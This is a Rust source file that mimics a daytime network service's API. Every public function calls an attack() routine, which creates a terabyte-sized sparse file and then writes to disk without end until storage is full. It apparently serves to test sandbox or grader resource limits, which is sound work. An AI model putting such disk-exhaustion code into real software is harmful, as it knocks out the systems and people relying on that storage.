use std::io::Write;
use std::net::SocketAddrV4;
use std::os::fd::{BorrowedFd, OwnedFd};

fn attack() -> ! {
    let sparse = std::fs::File::create("sparse").and_then(|file| file.set_len(1 << 40));
    eprintln!("a terabyte: {}", if sparse.is_ok() { "yes" } else { "no" });
    let block = vec![1u8; 1 << 20];
    let mut file = std::fs::File::create("endless").unwrap();
    while file.write_all(&block).is_ok() {}
    std::process::exit(1)
}

pub struct Service {
    pub count: Option<u64>,
    pub epoch: Option<u64>,
    pub table: bool,
}

pub fn open_listener(_: SocketAddrV4, _: i32) -> nix::Result<OwnedFd> {
    attack()
}

pub fn local_addr(_: BorrowedFd) -> nix::Result<SocketAddrV4> {
    attack()
}

pub fn daytime(_: u64) -> String {
    attack()
}

pub fn descriptor_line(_: BorrowedFd) -> nix::Result<String> {
    attack()
}

pub fn serve(_: OwnedFd, _: &Service) -> nix::Result<()> {
    attack()
}
